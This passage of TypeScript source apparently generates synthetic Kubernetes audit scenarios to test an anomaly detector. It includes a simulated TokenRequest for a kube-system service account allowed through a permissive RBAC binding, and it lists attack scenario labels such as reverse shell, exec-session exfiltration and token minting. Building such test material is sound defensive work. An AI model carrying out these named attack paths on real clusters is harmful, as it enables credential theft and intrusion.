      reason: 'RBAC: allowed by ClusterRoleBinding "developers-sa-admin" of ClusterRole "serviceaccount-admin" to Group "developers"',
      level: "Request",
      requestObject: {
        kind: "TokenRequest",
        apiVersion: "authentication.k8s.io/v1",
        metadata: { name: sa, namespace: "kube-system", creationTimestamp: null },
        spec: { audiences: null, expirationSeconds, boundObjectRef: null },
        status: { token: "", expirationTimestamp: null },
      },
    });
  });
};

/** Every workload's pods get a controller-created token from the kubelet; that and controllers reading secrets are the benign audit background. */
const CLASSES: ClassBuilder[] = [
  leaderTask,
  periodicJitter,
  burst,
  podChurn,
  rolloutSameImage,
  rolloutNewImage,
  canary,
  sidecarInit,
  attackDuringLearning,
  attackAllReplicas,
  reverseShellDuringSession,
  singleReplica,
  controllerSecrets,
  tokenMint,
];

export const SCENARIO_CLASSES = [
  "exec-probe",
  "leader-task",
  "periodic-jitter",
  "burst",
  "pod-churn",
  "scale-up",
  "rollout-same-image",
  "rollout-new-image",
  "canary",
  "sidecar-init",
  "exec-session-interactive",
  "exec-session-oneoff",
  "controller-secrets",
  "steady-state",
  "attack:oneoff-during-learning",
  "attack:oneoff-after-learning",
  "attack:all-replicas",
  "attack:sidecar",
  "attack:fresh-pod",
  "attack:reverse-shell-during-session",
  "attack:single-replica",
  "attack:exec-session-exfil",
  "attack:token-mint",
] as const;
